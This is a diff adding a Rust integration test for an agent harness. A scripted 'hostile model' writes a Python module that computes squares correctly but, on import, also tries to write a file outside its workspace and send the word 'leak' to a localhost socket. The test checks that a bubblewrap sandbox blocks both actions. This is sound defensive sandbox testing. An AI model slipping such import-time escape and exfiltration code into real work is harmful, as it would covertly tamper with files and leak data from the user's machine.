@@ -1,0 +1,91 @@
+//! Model-written code under the sandbox, end to end: a scripted model writes
+//! a module that, when the tests import it, tries to write outside the
+//! workspace and to open a connection to this machine. Run by an agent
+//! task's overseer, it can do neither; the same run without the sandbox
+//! (the user's explicit choice) can, which is what makes the first run's
+//! outcome mean something.
+
+mod common;
+
+use std::net::TcpListener;
+use std::path::PathBuf;
+use std::time::Duration;
+
+use attractor::llm::scripted::{Scripted, ScriptedServer};
+use attractor::llm::{LlmClient, LlmConfig};
+use attractor::task::agent::AgentConfig;
+use common::squares::Fixture;
+use serde_json::{Value, json};
+
+/// `squares.py` right for every n, plus what a hostile model slips in: at
+/// import it writes `outside` and sends a word to `port` on this machine.
+fn hostile_squares(outside: &std::path::Path, port: u16) -> String {
+    format!(
+        "import socket\n\ntry:\n    with open({outside:?}, 'w') as f:\n        f.write('escaped')\nexcept OSError:\n    pass\n\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\nexcept OSError:\n    pass\n\n\ndef square(n):\n    return n * n\n",
+        outside = outside.display().to_string()
+    )
+}
+
+fn suite(f: &Fixture) -> PathBuf {
+    let yaml = "name: sandboxed\ntasks:\n  - name: squares\n    kind: agent\n    task: Implement square(n) in squares.py.\n    workspace: pkg\n    budget:\n      max_loops: 2\n    overseers:\n      - name: tests\n        kind: test\n        command: python3 -m unittest -v\n        timeout: 30\n";
+    let path = f.path("sandboxed.suite.yaml");
+    std::fs::write(&path, yaml).unwrap();
+    path
+}
+
+fn config(sandbox: bool) -> AgentConfig {
+    let mut c = AgentConfig::default();
+    c.verifier.enabled = false;
+    c.overseers.retry_delay_ms = 20;
+    c.sandbox.enabled = sandbox;
+    c
+}
+
+/// Runs the task once with a model that writes the hostile module; what
+/// reached the outside file and the listener.
+async fn attempt(sandbox: bool) -> (bool, bool, Value) {
+    let f = Fixture::new("sandboxed").await;
+    let outside = f.path("escaped.txt");
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let reply = Scripted::json(&json!({
+        "summary": "square(n) = n * n",
+        "tools_used": [],
+        "edits": [{"path": "squares.py", "action": "write",
+                   "content": hostile_squares(&outside, listener.local_addr().unwrap().port())}],
+    }));
+    let server = ScriptedServer::start(vec![reply]).await.unwrap();
+    let llm = LlmClient::new(
+        LlmConfig::new(server.base_url(), "scripted-model")
+            .with_retries(0, Duration::from_millis(10))
+            .with_timeout(Duration::from_secs(20)),
+    )
+    .unwrap();
+    let (_tx, rx) = tokio::sync::watch::channel(false);
+    let run_config = common::squares::run_config(f.path("runs"), 1);
+    f.run_agent(&suite(&f), run_config, llm, config(sandbox), &[], false, rx).await;
+    server.shutdown().await;
+
+    let run = f.last_run().await;
+    let t = f.store.trajectories_of_run(run.id).await.unwrap().pop().expect("a trajectory");
+    let obs = f.store.observations_of_trajectory(&t.id).await.unwrap();
+    assert_eq!(obs.len(), 1, "one iteration");
+    assert_eq!(obs[0].loop_control, "converged", "the tests pass either way");
+    let setup: Value = serde_json::from_str(&t.setup_json).unwrap();
+    (outside.exists(), listener.accept().is_ok(), setup["sandbox"].clone())
+}
+
+#[tokio::test]
+async fn code_a_model_wrote_and_an_overseer_ran_can_neither_write_outside_nor_connect() {
+    let (wrote, connected, shown) = attempt(true).await;
+    assert!(!wrote, "the module wrote outside the workspace");
+    assert!(!connected, "the module reached the network");
+    assert!(shown.as_str().unwrap().starts_with("bubblewrap"), "{shown}");
+}
+
+#[tokio::test]
+async fn without_the_sandbox_the_same_code_does_both_and_the_run_says_so() {
+    let (wrote, connected, shown) = attempt(false).await;
+    assert!(wrote && connected, "the control run shows what the sandbox prevents");
+    assert!(shown.as_str().unwrap().starts_with("OFF"), "{shown}");
+}
